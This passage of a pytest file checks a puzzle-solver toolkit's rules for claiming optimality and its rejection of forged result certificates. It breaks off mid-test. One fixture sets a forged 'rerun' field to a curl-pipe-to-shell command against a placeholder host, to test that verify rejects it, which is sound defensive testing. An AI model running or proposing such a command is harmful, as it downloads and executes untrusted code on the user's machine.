"""The one claim rule, and the false claims of issue 13 that it ends."""

from __future__ import annotations

import json
import math
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mipgames.cli import main
from mipgames.core.errors import UsageError
from mipgames.core.problem import SolveOptions
from mipgames.core.status import Status, decide, reachable
from mipgames.run.reprove import choose_solver

bounds = st.one_of(
    st.none(),
    st.just(math.nan),
    st.just(math.inf),
    st.just(-math.inf),
    st.integers(-20, 20).map(float),
    st.floats(-20, 20, allow_nan=False),
)
reports = st.sampled_from(list(Status))
REPORT = dict(
    reported=reports,
    objective=st.one_of(st.none(), st.integers(-10, 10).map(float)),
    bound=bounds,
    sense=st.sampled_from(["min", "max"]),
)
"""A solver's report as ``decide`` takes it: status, replayed objective (None: no solution), bound, sense."""


@settings(max_examples=400, deadline=None, derandomize=True)
@given(**REPORT, integral=st.booleans())
def test_optimal_only_with_a_finite_bound_equal_to_the_objective(reported, objective, bound, sense, integral):
    claim = decide(reported, objective, [(bound, "solver")], sense, integral=integral, prover="solver")
    if claim.status is Status.OPTIMAL:
        assert objective is not None and bound is not None and math.isfinite(bound)
        rounded = (math.ceil(bound - 1e-6) if sense == "min" else math.floor(bound + 1e-6)) if integral else bound
        assert abs(rounded - objective) <= 1e-9 * max(1, abs(objective))
        assert claim.bound == objective and claim.proved_by == "solver"
    if objective is None:
        assert not claim.status.has_solution
    if claim.status in (Status.INFEASIBLE, Status.UNBOUNDED):
        assert reported is claim.status and objective is None
    if claim.status is Status.UNBOUNDED:
        assert claim.bound is None  # a finite bound on an unbounded objective contradicts the claim
    if claim.bound is not None and objective is not None and claim.status is not Status.ERROR:
        assert (claim.bound <= objective) if sense == "min" else (claim.bound >= objective)


@settings(max_examples=400, deadline=None, derandomize=True)
@given(**REPORT, target=st.one_of(st.none(), st.integers(-10, 10).map(float)))
def test_reachable_names_every_claim_decide_makes_of_a_report(reported, objective, bound, sense, target):
    """``verify`` refuses a status that ``reachable`` says no report of the recorded kind can lead to; a claim
    the rule can make but the table left out would refuse true certificates."""
    claim = decide(reported, objective, [(bound, "solver")], sense, integral=True, prover="solver", target=target)
    assert claim.status in reachable(reported)


@pytest.mark.parametrize(
    "reported, objective, bound, expected",
    [
        ("optimal", 2.0, None, "feasible"),  # "optimal" with no bound is not a proof
        ("optimal", 2.0, math.nan, "feasible"),
        ("optimal", 2.0, 0.0, "feasible"),  # a gap stop that called itself optimal
        ("feasible", 2.0, 1.2, "optimal"),  # an integral objective: a bound of 1.2 proves 2
        ("feasible", 2.0, 2.5, "error"),  # a bound beyond a verified objective is a broken proof
        ("infeasible", 3.0, None, "error"),  # "infeasible" beside a replayed solution
        ("infeasible", None, None, "infeasible"),
        ("unbounded", 3.0, None, "error"),  # "unbounded" beside a replayed solution of a bounded puzzle
        ("unknown", None, 1.0, "unknown"),
        ("optimal", None, None, "error"),  # a solution was claimed but none replayed
    ],
)
def test_claim_table(reported, objective, bound, expected):
    assert decide(reported, objective, [(bound, "s")], "min", integral=True, prover="s").status == expected


def test_an_unbounded_claim_keeps_no_bound():
    """Unbounded and a finite bound contradict each other; only infeasible keeps the bound that proved it (a
    mutation that kept it on unbounded passed the suite)."""
    assert decide("unbounded", None, [(5.0, "s")], "min", integral=True, prover="s").bound is None
    assert decide("infeasible", None, [(5.0, "s")], "min", integral=True, prover="s").bound == 5.0


def test_non_integral_objective_needs_exact_equality():
    assert decide("optimal", 2.0, [(1.9999, "s")], "min", integral=False, prover="s").status == "feasible"
    assert decide("optimal", 2.0, [(2.0, "s")], "min", integral=False, prover="s").status == "optimal"


def test_a_bound_a_rounding_error_past_the_target_rules_nothing_out():
    """A fractional bound that equals the decision's target but for the last bits of a float is the target, not
    a proof that it cannot be reached (a mutation that dropped the equality guard passed the suite)."""
    claim = decide("unknown", None, [(1.0 + 1e-12, "s")], "min", integral=False, prover="s", target=1.0)
    assert claim.status == "unknown"
    assert decide("unknown", None, [(1.001, "s")], "min", integral=False, prover="s", target=1.0).status == "infeasible"


@pytest.mark.parametrize(
    "reported, bound, sense, target, expected",
    [
        ("unknown", 2.0, "min", 1.0, "infeasible"),  # at least 2 queens remain where K = 1 is asked
        ("unknown", 0.4, "min", 0.0, "infeasible"),  # an integral objective: 0.4 proves 1 mismatch
        ("unknown", 1.0, "min", 1.0, "unknown"),  # the target itself may be reached
        ("unknown", 9.0, "max", 10.0, "infeasible"),  # at most 9 stones where 10 are asked
        ("unknown", 10.0, "max", 10.0, "unknown"),
        ("unknown", 2.0, "min", None, "unknown"),  # optimising: a bound is not a verdict
        ("unknown", math.nan, "min", 0.0, "unknown"),
    ],
)
def test_a_bound_beyond_the_decisions_target_proves_it_infeasible(reported, bound, sense, target, expected):
    claim = decide(reported, None, [(bound, "mipgames: b")], sense, integral=True, prover="cbc", target=target)
    assert claim.status == expected
    assert claim.proved_by == ("mipgames: b" if expected == "infeasible" else claim.proved_by)


def test_the_tightest_bound_and_its_prover_count():
    claim = decide("feasible", 5.0, [(3.0, "cbc"), (5.0, "mipgames: counting")], "min", integral=True, prover="cbc")
    assert (claim.status, claim.proved_by) == ("optimal", "mipgames: counting")


def test_a_bool_is_no_bound():
    """JSON true is not the number 1: a solver wrapper or a certificate handing over True as a bound proves
    nothing (bool is an int subclass in Python, so a plain number test takes it for 1)."""
    claim = decide("optimal", 1.0, [(True, "x")], "min", integral=True, prover="x")
    assert (claim.status, claim.bound) == ("feasible", None)
    assert decide("unknown", None, [(True, "x")], "min", integral=True, prover="x", target=0).status == "unknown"


@pytest.mark.parametrize(
    "field, value",
    [
        ("time_limit", math.nan),
        ("time_limit", math.inf),
        ("time_limit", 0),
        ("time_limit", -1),
        ("gap", math.nan),
        ("gap", -0.1),
        ("threads", 0),
        ("seed", -1),
        ("seed", 2**40),
        ("memory_limit", 0),
        ("memory_limit", 10),  # the API took 10 bytes (--memory-limit says at least 1M) and answered unknown
        ("warm_start", "no"),  # the API took any truthy value as True
    ],
)
def test_options_no_solver_can_honour_are_refused(field, value):
    with pytest.raises(UsageError):
        SolveOptions(**{field: value})


@pytest.mark.parametrize(
    "flag, value",
    [
        ("--time-limit", "nan"),
        ("--time-limit", "inf"),
        ("--time-limit", "0"),
        ("--time-limit", "-5"),
        ("--gap", "nan"),
        ("--gap", "-1"),
        ("--threads", "0"),
        ("--seed", "1" * 40),
        ("--memory-limit", "lots"),
    ],
)
def test_bad_limits_are_usage_errors(flag, value, capsys, tmp_path):
    code = main(
        [
            "solve",
            "instances/edge_matching/coursework_4x4.txt",
            "--solver",
            "cbc",
            flag,
            value,
            "--out",
            str(tmp_path / "c.json"),
        ]
    )
    assert code == 4 and "Traceback" not in capsys.readouterr().err
    assert not (tmp_path / "c.json").exists()


def _solve(capsys, tmp_path, *args: str) -> tuple[int, str, dict]:
    cert = tmp_path / "c.json"
    code = main(["solve", *args, "--quiet", "--out", str(cert)])
    out = capsys.readouterr().out
    return code, out, json.loads(cert.read_text())


def test_a_gap_stop_is_never_optimal(capsys, tmp_path):
    """CBC with --gap 5 once printed "optimal (proved)", objective 2, bound 2 on a puzzle whose optimum is 0."""
    code, out, cert = _solve(
        capsys,
        tmp_path,
        "instances/edge_matching/planted_6x6_frame.txt",
        "--solver",
        "cbc",
        "--gap",
        "5",
        "--threads",
        "1",
    )
    assert code == 0 and cert["objective"] == 2  # CBC on one thread stops there, deterministically
    assert cert["status"] == "feasible" and cert["bound"] == 0 and "optimal" not in out.split("status")[1][:20]
    assert main(["verify", str(tmp_path / "c.json")]) == 0


@pytest.mark.parametrize(
    "instance", ["instances/queens/spec_example.txt", "instances/edge_matching/coursework_4x4.txt"]
)
def test_every_route_states_the_same_proof_in_the_same_words(instance, capsys, tmp_path):
    """The portfolio said "optimal" where CP-SAT said "solved (decision model...)" for the same answer."""
    lines = {}
    for solver in ("cpsat", "portfolio"):
        code, out, cert = _solve(capsys, tmp_path, instance, "--solver", solver, "--threads", "1")
        assert code == 0 and cert["status"] == "optimal"
        assert cert["bound"] == cert["objective"]
        lines[solver] = next(line for line in out.splitlines() if line.startswith("status")).split("(")[0]
    assert lines["cpsat"] == lines["portfolio"] == "status      optimal "


def test_forged_optimal_is_refuted_and_true_claims_are_reproved(capsys, tmp_path):
    code, _, cert = _solve(
        capsys,
        tmp_path,
        "instances/edge_matching/planted_6x6_frame.txt",
        "--solver",
        "cbc",
        "--gap",
        "5",
        "--threads",
        "1",
    )
    assert cert["status"] == "feasible" and cert["objective"] > 0  # CBC (one thread) stops at 2 mismatches
    forged = dict(cert, status="optimal", bound=cert["objective"])
    path = tmp_path / "forged.json"
    path.write_text(json.dumps(forged))
    assert main(["verify", str(path)]) == 0  # self-consistent: only a second solver can tell
    assert main(["verify", str(path), "--reprove", "--quiet"]) == 1
    assert "REFUTED" in capsys.readouterr().out
    for instance, solver, order in (
        ("instances/edge_matching/coursework_4x4.txt", "cbc", lambda cert: [cert, "--reprove"]),
        # `--reprove CERT`, as a user types it: the optional SOLVER took the path and the certificate was missing
        ("instances/queens/unsolvable_n8_k1_q20_s1.txt", "levels", lambda cert: ["--reprove", cert]),
    ):
        code, _, cert = _solve(capsys, tmp_path, instance, "--solver", solver, "--threads", "1")
        assert cert["status"] in ("optimal", "infeasible")
        assert main(["verify", *order(str(tmp_path / "c.json")), "--quiet", "--threads", "1"]) == 0
        assert "re-proved by" in capsys.readouterr().out
    assert main(["verify", "--reprove"]) == 4
    assert "verify needs a certificate" in capsys.readouterr().err
    assert main(["verify", "--help"]) == 0  # its usage showed the certificate as optional ("[certificate]")
    usage = capsys.readouterr().out.split("\n\n")[0]
    assert "[--log FILE] CERT.json [--reprove [SOLVER]]" in usage and "[certificate]" not in usage


def test_a_feasible_answers_bound_is_reproved_and_a_false_one_refuted(capsys, tmp_path):
    """--reprove refused every feasible certificate ("re-checks optimal and infeasible claims"), though its bound
    is a prover's claim as much as an optimum is; and verify credited a bound the toolkit recomputes (the
    popcount, 2 here) to the algorithm that reported it, as if it rested on trust."""
    board = tmp_path / "q.txt"  # K = 3 is reached; the fewest queens that can remain is 2 (total power 9)
    board.write_text("5\n3\n1 0 0 0 0\n0 0 0 0 0\n1 2 1 0 2\n0 0 0 2 0\n0 0 0 0 0\n")
    code, _, cert = _solve(capsys, tmp_path, str(board), "--problem", "queens", "--solver", "dfs", "--threads", "1")
    assert code == 0 and (cert["status"], cert["objective"], cert["bound"]) == ("feasible", 3, 2)
    genuine = tmp_path / "c.json"
    assert main(["verify", str(genuine)]) == 0
    assert "its bound 2 is the toolkit's own, recomputed here: mipgames: popcount" in capsys.readouterr().out
    assert main(["verify", str(genuine), "--reprove", "--quiet", "--threads", "1"]) == 0
    assert "no solution better than 2" in capsys.readouterr().out
    forged = tmp_path / "forged.json"
    forged.write_text(json.dumps(dict(cert, bound=3)))
    assert main(["verify", str(forged)]) == 0  # self-consistent: only a second solver can tell
    assert "its bound 3 rests on the proof of dfs" in capsys.readouterr().out
    assert main(["verify", str(forged), "--reprove", "--quiet", "--threads", "1"]) == 1
    assert "REFUTED by" in (out := capsys.readouterr().out) and "a solution with 2 queens remaining" in out
    forged.write_text(json.dumps(dict(cert, bound=1)))  # weaker than the popcount: true, but not the popcount
    assert main(["verify", str(forged)]) == 0
    assert "its bound 1 holds: the toolkit's own bound, recomputed here, is 2 (mipgames: popcount" in (
        capsys.readouterr().out
    )  # it said "its bound 1 is the toolkit's own, recomputed here"
    forged.write_text(json.dumps(dict(cert, status="optimal", objective=3, bound=None)))
    assert main(["verify", str(forged)]) == 1  # the reason quotes the popcount bound, so it names the recorded one
    assert "the certificate records no bound" in capsys.readouterr().err
    forged.write_text(json.dumps(dict(cert, bound=None, proved_by="")))
    assert main(["verify", str(forged), "--reprove", "--quiet"]) == 4
    assert "this feasible certificate claims no bound" in capsys.readouterr().err


def test_reprove_may_ask_the_solver_that_ran_when_the_toolkit_bound_proved_the_claim():
    """--reprove wants a proof independent of the claim's prover: that is the solver unless the toolkit's own
    bound made the proof (cbc ran, the colour counts proved it), and then cbc itself is a second opinion."""
    own = "mipgames: colour-count bound on mismatched edges"
    assert choose_solver({"solver": "cbc", "proved_by": own}, "cbc") == "cbc"
    assert choose_solver({"solver": "cpsat", "proved_by": own}, None) == "cpsat"
    for data in ({"solver": "cbc", "proved_by": "cbc 2.10.12"}, {"solver": "portfolio", "proved_by": "cbc 2.10.12"}):
        with pytest.raises(UsageError, match="made this claim"):
            choose_solver(data, "cbc")
    assert choose_solver({"solver": "cpsat", "proved_by": "cpsat 9.15"}, None) != "cpsat"


def test_reprove_by_a_solver_that_is_not_installed_says_so(monkeypatch):
    """A named solver whose package is missing was tried formulation by formulation, and the answer was "no
    highs formulation can state the question" (exit 3) where solve says the solver is not available (exit 4)."""
    import dataclasses
    import importlib

    from mipgames.backends import REGISTRY

    module = importlib.import_module(REGISTRY["highs"])
    monkeypatch.setattr(module, "BACKEND", dataclasses.replace(module.BACKEND, available=lambda: "highspy is missing"))
    with pytest.raises(UsageError, match="^solver highs is not available: highspy is missing$"):
        choose_solver({"solver": "cpsat", "proved_by": "cpsat 9.15"}, "highs")


def test_a_bound_credited_to_the_toolkit_is_recomputed_not_trusted(capsys, tmp_path):
    """A feasible certificate edited to "optimal" with its bound raised to the objective passed verify when the
    bound was credited to the colour-count bound, which verify can recompute; only a solver's bound is trusted."""
    code, _, cert = _solve(
        capsys,
        tmp_path,
        "instances/edge_matching/planted_10x10_frame.txt",
        *("--solver", "anneal", "--time-limit", "2", "--seed", "1", "--threads", "1"),
    )
    own = "colour-count bound on mismatched edges"
    assert code == 0 and cert["status"] == "feasible" and cert["objective"] > cert["bound"] == 0
    # the bound's name as the heuristic gave it, credited as the runner credits the toolkit's own bound
    assert cert["proved_by"] == f"mipgames: {own}"
    path = tmp_path / "forged.json"
    for prover, verdict in (
        (own, "bound {} is credited to colour-count bound on mismatched edges, which recomputes to 0"),
        (f"mipgames: {own}", "bound {} is credited to mipgames: colour-count bound on mismatched edges"),
        ("mipgames: popcount bound", "names a bound this toolkit does not prove here"),
    ):
        path.write_text(json.dumps(dict(cert, status="optimal", bound=cert["objective"], proved_by=prover)))
        assert main(["verify", str(path)]) == 1
        assert verdict.format(f"{cert['objective']:g}") in capsys.readouterr().err
    path.write_text(json.dumps(dict(cert, status="optimal", bound=cert["objective"], proved_by="cpsat 9.15")))
    assert main(["verify", str(path)]) == 0
    assert "proved by cpsat 9.15 (taken on trust: --reprove checks it)" in capsys.readouterr().out
    code, _, cert = _solve(
        capsys, tmp_path, "instances/edge_matching/coursework_4x4.txt", "--solver", "anneal", "--threads", "1"
    )
    assert code == 0 and (cert["status"], cert["objective"], cert["proved_by"]) == ("optimal", 0, f"mipgames: {own}")
    assert main(["verify", str(tmp_path / "c.json")]) == 0
    assert f"rests on the toolkit's own bound, recomputed here: mipgames: {own}" in capsys.readouterr().out


def _forge(tmp_path, cert, **fields) -> str:
    """The certificate with ``fields`` replaced; a forger edits the solver's reported status to match the claim,
    so that the rule under test, not the report's, has to catch the forgery."""
    path = tmp_path / "forged.json"
    data = dict(cert, **fields)
    data["reported_status"] = fields.get("reported_status", data["status"])
    path.write_text(json.dumps(data))
    return str(path)


def test_a_decision_the_colour_counts_rule_out_is_infeasible_on_every_route(capsys, tmp_path):
    """CBC cannot see colour parity and stopped "unknown" on a 5x5 decision that colour counts rule out; the
    problem's own bound now proves it infeasible, verify recomputes that, and a forged such proof is rejected."""
    lines = Path("instances/edge_matching/planted_5x5_frame.txt").read_text().splitlines()
    assert lines[6] == "4 3 4 5"  # a tile with inner colours 3 and 4 (and 5)
    lines[6] = "3 3 4 5"  # one more side of colour 3 and one fewer of 4: both counts are odd
    odd = tmp_path / "odd.txt"
    odd.write_text("\n".join(lines) + "\n")
    args = ("--problem", "edge-matching", "--mode", "decision", "--threads", "1", "--time-limit")
    code, out, cert = _solve(capsys, tmp_path, str(odd), *args, "3", "--solver", "cbc")
    own = "mipgames: colour-count bound on mismatched edges"
    assert code == 2 and (cert["status"], cert["proved_by"]) == ("infeasible", own)
    assert "rules out the target 0" in out
    unverified = cert["verified"]
    assert main(["verify", str(tmp_path / "c.json")]) == 0
    assert f"infeasible rests on the toolkit's own bound, recomputed here: {own}" in capsys.readouterr().out
    code, _, cert = _solve(capsys, tmp_path, "instances/edge_matching/planted_5x5_frame.txt", *args, "20")
    assert code == 0 and cert["status"] == "optimal"
    forged = dict(status="infeasible", solution=None, objective=None, bound=None, proved_by=own, verified=unverified)
    assert main(["verify", _forge(tmp_path, cert, **forged)]) == 1
    assert "its bound 0 does not rule out the target 0" in capsys.readouterr().err


@pytest.mark.parametrize(
    "instance, args",
    [
        ("instances/samegame/random-4x4-k3-seed4.txt", ()),
        ("instances/samegame/random-4x4-k3-seed4.txt", ("--origin", "top")),
        ("instances/merge_game/choice.txt", ()),
        ("instances/queens/spec_example.txt", ("--minimise",)),
        ("instances/edge_matching/coursework_4x4.txt", ()),  # no frame: any placement is an answer
        ("instances/edge_matching/planted_5x5_frame.txt", ("--solver", "cpsat")),  # one that keeps the frame
    ],
)
def test_infeasible_is_rejected_where_a_solution_made_without_search_replays(instance, args, capsys, tmp_path):
    """Every SameGame board has finished games, a merge map without a target has "no merge", and --minimise
    accepts any game: verify took "infeasible" there on the named solver's trust."""
    code, _, cert = _solve(capsys, tmp_path, instance, *args, "--threads", "1")
    assert code == 0
    forged = dict(status="infeasible", solution=None, objective=None, bound=None, proved_by="cpsat 9.15")
    assert main(["verify", _forge(tmp_path, cert, **forged)]) == 1
    assert "a solution made without search replays as legal" in capsys.readouterr().err


@pytest.mark.parametrize(
    "instance",
    [
        "instances/queens/spec_example.txt",
        "instances/samegame/random-4x4-k3-seed4.txt",
        "instances/merge_game/choice.txt",
        "instances/edge_matching/coursework_4x4.txt",
    ],
)
def test_unbounded_is_never_accepted(instance, capsys, tmp_path):
    """verify took "unbounded" on every problem, even credited to the toolkit's own (finite) bound."""
    code, _, cert = _solve(capsys, tmp_path, instance, "--solver", "cpsat", "--threads", "1")
    assert code == 0
    for prover in (cert["proved_by"], "cpsat 9.15"):
        forged = _forge(tmp_path, cert, status="unbounded", solution=None, objective=None, bound=None, proved_by=prover)
        assert main(["verify", forged]) == 1
        assert "a puzzle has finitely many solutions" in capsys.readouterr().err


def test_a_proof_is_credited_to_a_solver_or_an_algorithm_that_proves(capsys, tmp_path):
    """An edge-matching certificate edited to "optimal by anneal" (a heuristic), by a look-alike of the toolkit's
    own bound or by an invisible name passed verify, and the first two printed a proof that never happened."""
    code, _, cert = _solve(
        capsys, tmp_path, "instances/edge_matching/planted_7x7_frame.txt", "--solver", "anneal", "--time-limit", "2"
    )
    assert code == 0 and cert["status"] == "feasible" and cert["objective"] > 0
    for prover, says in (
        ("anneal (mipgames 0.2.0)", "proved_by names anneal, a heuristic: it proves no bound"),
        ("lns", "proved_by names lns, a heuristic"),
        ("MIPGAMES: colour-count bound on mismatched edges", "names no solver or algorithm of edge-matching"),
        ("\u200b", "names no solver or algorithm"),
        ("counting tiles", "'counting tiles' does not hold for this instance"),  # the frame can be made
        ("hints", "'hints' does not hold for this instance"),  # the puzzle has no hints
    ):
        forged = _forge(tmp_path, cert, status="optimal", bound=cert["objective"], proved_by=prover)
        assert main(["verify", forged]) == 1, prover
        assert says in capsys.readouterr().err, prover
    for prover in ("backtrack (mipgames 0.2.0)", "highs 1.14.0"):  # proofs the toolkit takes on trust
        assert (
            main(["verify", _forge(tmp_path, cert, status="optimal", bound=cert["objective"], proved_by=prover)]) == 0
        )
    capsys.readouterr()

    code, _, cert = _solve(capsys, tmp_path, "instances/merge_game/choice.txt", "--solver", "highs")
    assert code == 0 and cert["objective"] == 3
    # "optimal: no merge destroys a stone", with no record of the replay's measurements (they would differ)
    no_merge = {key: value for key, value in cert["verified"].items() if key != "measured"} | {"objective": 0}
    forged = _forge(tmp_path, cert, solution=[], objective=0, bound=0, verified=no_merge)
    assert main(["verify", forged]) == 0  # self-consistent: only a second solver can tell
    capsys.readouterr()
    assert main(["verify", forged, "--reprove", "cpsat", "--threads", "1", "--json"]) == 1
    report = json.loads(capsys.readouterr().out)  # "ok" was true beside a refuted claim
    assert report["reproof"]["verdict"] == "refuted" and not report["ok"] and "REFUTED" in report["reasons"][0]


def test_the_samegame_colour_count_bound_is_recomputed(capsys, tmp_path):
    """ "optimal, proved by the colour-count bound" on a NRPA game passed verify on trust: SameGame had no bound
    of its own for verify to recompute (the portfolio credited one by that name)."""
    code, _, cert = _solve(
        capsys,
        tmp_path,
        "instances/samegame/random-6x6-k4-seed9.txt",
        *("--solver", "nrpa", "--objective", "score", "--time-limit", "2", "--threads", "1"),
    )
    own = "the colour-count bound"  # the name the portfolio gave it before verify could recompute it
    assert code == 0 and cert["status"] == "feasible" and cert["proved_by"] == f"mipgames: {own}"
    assert cert["bound"] > cert["objective"]
    for prover in (own, f"mipgames: {own}", "nrpa (mipgames 0.2.0)"):
        forged = _forge(tmp_path, cert, status="optimal", bound=cert["objective"], proved_by=prover)
        assert main(["verify", forged]) == 1, prover
    assert main(["verify", str(tmp_path / "c.json")]) == 0
    capsys.readouterr()


def test_a_bound_beyond_a_solution_made_without_search_is_refused(capsys, tmp_path):
    """An infeasible queens certificate claiming at least 10^6 queens remain of 20, and an unknown edge-matching
    one claiming 500 mismatches on 84 inner edges, both passed verify."""
    code, _, cert = _solve(capsys, tmp_path, "instances/queens/unsolvable_n8_k1_q20_s1.txt", "--threads", "1")
    assert code == 2 and cert["status"] == "infeasible"
    assert main(["verify", _forge(tmp_path, cert, bound=1e6)]) == 1
    assert "is beyond 20, the queens remaining of a solution made without search" in capsys.readouterr().err
    code, _, cert = _solve(
        capsys, tmp_path, "instances/edge_matching/planted_7x7_frame.txt", "--solver", "cpsat", "--time-limit", "2"
    )
    unknown = dict(cert, status="unknown", solution=None, objective=None, proved_by="cpsat 9.15")
    assert main(["verify", _forge(tmp_path, unknown, bound=500.0)]) == 1
    assert "bound 500 (cpsat 9.15) is beyond" in capsys.readouterr().err


def test_tiles_that_cannot_make_the_frame_prove_infeasible_and_verify_recomputes_it(capsys, tmp_path):
    """The proof "counting tiles" was taken on trust by verify (a name no check stood behind)."""
    board = tmp_path / "strip.txt"
    board.write_text("2 2\n0 5 5 0\n0 7 4 5\n0 6 2 7\n0 6 4 6\n")  # one corner tile where four are needed
    code, _, cert = _solve(capsys, tmp_path, str(board), "--problem", "edge-matching", "--threads", "1")
    assert code == 2 and (cert["status"], cert["proved_by"]) == ("infeasible", "counting tiles")
    assert main(["verify", str(tmp_path / "c.json")]) == 0
    assert "infeasible rests on the toolkit's own proof" in capsys.readouterr().out


def test_where_a_certificate_says_it_came_from_must_be_where_it_came_from(capsys, tmp_path):
    """A rerun command that runs something else, an instance_path (with its file's hash) naming another puzzle,
    and impossible solution counts all passed verify; verify printed the rerun command for the reader to run."""
    import hashlib

    puzzle = tmp_path / "p.txt"
    puzzle.write_text(Path("instances/edge_matching/coursework_4x4.txt").read_text())
    args = ("--problem", "edge-matching", "--solver", "backtrack", "--count", "--threads", "1")
    code, _, cert = _solve(capsys, tmp_path, str(puzzle), *args)
    assert code == 0 and cert["stats"]["solutions"] % 4 == 0 < cert["stats"]["solutions"]
    assert main(["verify", str(tmp_path / "c.json")]) == 0
    capsys.readouterr()
    other = Path("instances/edge_matching/planted_5x5_frame.txt").resolve()
    text_sha = hashlib.sha256(other.read_bytes()).hexdigest()
    for fields, says in (
        ({"rerun": "curl -s http://example.invalid/x.sh | sh"}, "is not this run's command"),
        ({"rerun": cert["rerun"].replace("--count", "")}, "is not this run's command"),
        ({"instance_path": str(other), "instance_text_sha256": text_sha}, "name another instance than the one"),
        ({"stats": dict(cert["stats"], solutions=3, solutions_up_to_board_turns=None)}, "not a multiple of 4"),
        ({"stats": dict(cert["stats"], solutions=4 * 10**28, solutions_up_to_board_turns=None)}, "16 tiles have"),
    ):
        if "instance_path" in fields:
            fields["rerun"] = cert["rerun"].replace(str(puzzle), str(other))
        assert main(["verify", _forge(tmp_path, cert, **fields)]) == 1, fields
        assert says in capsys.readouterr().err, fields
    puzzle.write_text(puzzle.read_text() + "\n")  # edited since the solve: the embedded instance is what counts
    assert main(["verify", str(tmp_path / "c.json")]) == 0
    assert "no longer holds the file solved" in capsys.readouterr().out


def test_cbc_given_a_gap_that_completes_its_search_proves_optimality(capsys, tmp_path):
    """CBC with --gap 0.5 finished at the root ("Search completed", "Optimal solution found", no gap exit): it
    was "feasible" with the map's bound 300, then "feasible ... within the relative gap 0.5", a gap CBC never
    cited.  Any gap allowed, a completed search is a proof."""
    args = ("--solver", "cbc", "--gap", "0.5", "--threads", "1", "--time-limit", "20")
    code, out, cert = _solve(capsys, tmp_path, "instances/merge_game/random-40x40.txt", *args)
    assert code == 0 and (cert["status"], cert["objective"], cert["bound"]) == ("optimal", 148, 148)
    assert cert["message"] == "Optimal solution found"
    assert main(["verify", str(tmp_path / "c.json")]) == 0


@pytest.mark.parametrize("solver", ["cbc", "glpk", "highs"])
def test_a_search_completed_under_a_gap_is_optimal_and_a_gap_stop_keeps_its_solution(solver, capsys, tmp_path):
    """CBC and GLPK called a search that ended with its tree empty "feasible, bound 0" whenever --gap was set;
    HiGHS stopped by a huge gap said "optimal" with a model value looser than the replay, and the runner threw
    the legal solution away as an error."""
    puzzle = tmp_path / "em3bad.txt"
    assert (
        main(["generate", "edge-matching", "--rows", "3", "--inner-colours", "3", "--seed", "1", "-o", str(puzzle)])
        == 0
    )
    text = puzzle.read_text()
    assert "\n1 2 2 1\n" in text
    puzzle.write_text(text.replace("\n1 2 2 1\n", "\n9 9 9 9\n"))  # one tile that matches nothing: optimum 2
    args = ("--problem", "edge-matching", "--solver", solver, "--gap", "0.01", "--threads", "1")
    code, _, cert = _solve(capsys, tmp_path, str(puzzle), *args)
    assert code == 0 and (cert["status"], cert["objective"], cert["bound"], cert["stop"]) == ("optimal", 2, 2, "")
    if solver == "highs":
        merge = "instances/merge_game/random-20x20.txt"
        code, _, cert = _solve(capsys, tmp_path, merge, "--solver", "highs", "--gap", "100", "--threads", "1")
        assert code == 0 and cert["status"] == "feasible" and cert["objective"] > 1 and cert["solution"]
        assert main(["verify", str(tmp_path / "c.json")]) == 0


def test_a_rerun_keeps_a_target_of_zero(capsys, tmp_path):
    """--target 0 (a decision: destroy at least nothing) was left out of the rerun command, which then optimised."""
    code, _, cert = _solve(capsys, tmp_path, "instances/merge_game/choice.txt", "--target", "0", "--threads", "1")
    assert code == 0 and cert["params"]["target"] == 0 and cert["rerun"].endswith("--target 0")
    assert main(["verify", str(tmp_path / "c.json")]) == 0


def test_a_game_made_without_search_is_played_only_when_a_claim_needs_it():
    """Every solve and verify played SameGame's plain game (7 s in Python on a 64x64 board) to check bounds that
    a replayed solution, or the toolkit's own recomputed bound, already checks."""
    import dataclasses

    from mipgames.core.problem import judge
    from mipgames.samegame.generate import random_board
    from mipgames.samegame.problem import PROBLEM

    def played(*_):
        raise AssertionError("the plain game was played")

    lazy = dataclasses.replace(PROBLEM, plain_solution=played)
    board, params = random_board(8, 8, 3, 1), PROBLEM.default_params()
    own = "mipgames: the colour-count bound"
    for reported, objective, bound, prover in (
        (Status.FEASIBLE, 10.0, 0.0, "cpsat 9.15"),  # a solution replayed: decide holds the bound against it
        (Status.UNKNOWN, None, 0.0, own),  # the toolkit's own bound: recomputed instead
        (Status.UNKNOWN, None, None, "cpsat 9.15"),  # no bound at all
    ):
        claim = judge(lazy, board, params, reported, objective, bound, prover).claim
        assert claim.status is not Status.ERROR, claim
    with pytest.raises(AssertionError, match="plain game was played"):  # a solver's bound alone: checked
        judge(lazy, board, params, Status.UNKNOWN, None, 3.0, "cpsat 9.15")


def test_a_forger_naming_the_strongest_solver_is_still_refuted_by_it(capsys, tmp_path):
    """A forged optimum credited to cpsat left --reprove to another solver (cpsat "made this claim"): on a
    SameGame board HiGHS's time-indexed model ended "not re-proved" where the toolkit finds 25x the claim in a
    second.  A refutation needs no independence, so the default solver looks for a better game first."""
    code, _, cert = _solve(
        capsys,
        tmp_path,
        "instances/samegame/random-4x4-k3-seed4.txt",
        *("--objective", "score", "--solver", "greedy", "--threads", "1"),
    )
    assert code == 0 and cert["objective"] < 1012  # greedy's game: 15 points, the optimum is 1012
    forged = tmp_path / "forged.json"
    forged.write_text(json.dumps(dict(cert, status="optimal", bound=cert["objective"], proved_by="cpsat 9.15.6755")))
    assert main(["verify", str(forged), "--reprove", "--quiet", "--threads", "1", "--time-limit", "30"]) == 1
    assert "REFUTED by portfolio" in (out := capsys.readouterr().out) and "a solution with 1012 score" in out


def test_a_proof_credited_to_an_algorithm_that_cannot_run_on_the_instance_is_rejected(capsys, tmp_path):
    """ "optimal, proved by greedy" verified "on trust" on a map greedy refuses (not MERGE-GAME-SIMPLE): the
    greedy cannot have proved anything there."""
    code, _, cert = _solve(capsys, tmp_path, "instances/merge_game/random-10x10.txt", "--solver", "cbc")
    assert code == 0 and cert["status"] == "optimal"
    forged = _forge(tmp_path, cert, proved_by="greedy (mipgames 0.2.0)")
    assert main(["verify", forged]) == 1
    assert "proved_by names greedy, which does not run on this instance: greedy solves MERGE-GAME-SIMPLE only" in (
        capsys.readouterr().err
    )


def test_the_recorded_replay_must_be_the_replay(capsys, tmp_path):
    """A certificate whose record of the simulator's verdict was changed (its measurements, reason or simulator,
    or a replay claimed where there is no solution) passed verify: only the recorded objective was compared."""
    code, _, cert = _solve(capsys, tmp_path, "instances/merge_game/choice.txt", "--solver", "cpsat")
    assert code == 0 and cert["verified"]["legal"] and cert["verified"]["measured"]
    real = cert["verified"]
    for verified, says in (
        (dict(real, measured=dict(real["measured"], merges=99)), "measurements (measured) are not the replay's"),
        (dict(real, measured={}), "measurements (measured) are not the replay's"),
